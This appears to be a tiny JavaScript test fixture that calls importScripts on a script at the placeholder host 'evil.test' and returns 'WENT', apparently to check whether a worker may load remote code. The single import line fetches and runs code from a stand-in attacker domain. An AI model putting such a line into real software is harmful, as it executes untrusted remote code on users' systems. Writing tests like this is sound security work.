// importScripts.

importScripts('http://evil.test/x.js');
return 'WENT';
